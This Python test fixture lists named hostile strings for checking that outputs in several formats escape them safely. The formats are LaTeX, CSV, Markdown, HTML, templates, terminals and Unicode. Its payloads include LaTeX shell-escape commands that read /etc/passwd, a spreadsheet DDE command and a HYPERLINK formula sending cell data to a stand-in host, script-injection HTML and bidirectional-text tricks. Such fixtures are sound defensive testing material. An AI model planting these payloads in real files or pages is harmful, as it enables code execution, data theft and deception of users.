"""Texts that try to run, break or hide something wherever they are shown: one list for the tests of every output."""

from __future__ import annotations

#: name -> text. Names are stable, so that a failing test says which text it was.
HOSTILE: dict[str, str] = {
    # LaTeX
    "latex-write18": r"\write18{touch pwned} \input{/etc/passwd} $x^2_3 ~ # % & {open",
    "latex-immediate": r"\immediate\write18{touch pwned}",
    "latex-openout": r"\newwrite\w\immediate\openout\w=pwned\immediate\write\w{x}",
    "latex-catcode": r"\catcode`\%=12 \catcode`\@=0 @input{/etc/passwd}",
    "latex-carets": r'"quoted" \\ \begin{document} ^^M ^^5c ^^5cinput{/etc/passwd}',
    "latex-end": r"\end{tabular}\end{table}\end{document} after the end",
    "latex-loop": r"\def\x{\x\x}\x",
    "latex-comment": "all behind % is gone",
    "latex-argument": "[2cm]",
    "latex-star": "*",
    "latex-ligatures": "??` -- --- '' `` << >> fi ffl",
    "latex-unbalanced": "}}}} $ $$ {{{",
    # spreadsheets
    "csv-command": "=cmd|' /C calc'!A0",
    "csv-link": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "csv-plus": "+1+1",
    "csv-minus": "-2+3",
    "csv-at": "@SUM(A1)",
    "csv-tab": "\t=1+1",
    "csv-return": "\r=1+1",
    "csv-percent": "%0A=1+1",
    "csv-quotes": 'a,"b""c\n",;d',
    # Markdown and HTML
    "markdown-all": "a|b||c `code` **bold** [link](http://x) <script>alert(1)</script> @team #1",
    "markdown-image": "![x](http://x.example/track.png) <img src=x onerror=alert(1)>",
    "markdown-link": "[click](javascript:alert(1)) <javascript:alert(1)>",
    "markdown-fence": "```\n# heading\n```\n---\n> quote",
    "html-style": "</style><!-- --> &amp; www.example.org",
    "html-script": "</script><script>document.title='pwned'</script>",
    "html-attribute": '" onmouseover="alert(1)" x=\'',
    "html-svg": "<svg/onload=alert(1)><iframe srcdoc='<script>alert(1)</script>'>",
    "html-comment": "<!--<script>--> ]]> <![CDATA[ x ]]>",
    "template": "<<< table.name >>> <% endfor %> {{ 7*7 }} {% raw %} ${7*7}",
    "json-constructor": '{"__proto__": {"polluted": true}} __proto__ constructor',
    # terminals
    "ansi": "red\x1b[31m \x07 bell \x9b31m title\x1b]0;x\x07",
    "ansi-clear": "\x1b[2J\x1b[H\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\",
    "overwrite": "ASA loses\rASA wins \x08\x08\x08\x08\x7f",
    "rich-markup": "[bold red]rich[/] [link=http://x.example]x[/link]",
    "lines": "two\nlines\r\nthree\x0b\x85\u2028\u2029four",
    # Unicode
    "bidi": "\u202eabc\u2066 \u200bzero\ufeff width",
    "bidi-marks": "\u200f\u061c\u2067evil\u2069\u202c",
    "zero-width": "\u200b\u200c\u200d\u2060\u00ad",
    "tags": "hidden\U000e0041\U000e0042\U000e007f",
    "surrogate": "lone \ud800 surrogate",
    "surrogates-swapped": "\udc00\ud800 \udfff",
    "null": "nul\x00in the middle",
    "outside-fonts": "中文 \U0001f600 e\u0301 ß é ﬁ \U0001f468\u200d\U0001f469",
    "combining": "z" + "\u0301\u0334\u0489" * 60,
    "unassigned": "\U000e0fff \ue000 \uffff \ufdd0",
    "right-to-left": "שלום مرحبا",
    # sizes
    "long-word": "W" * 3000,
    "longest-word": "w" * 100_000,
    "many-words": "word " * 2000,
    "empty": "",
    "blank": "   ",
}
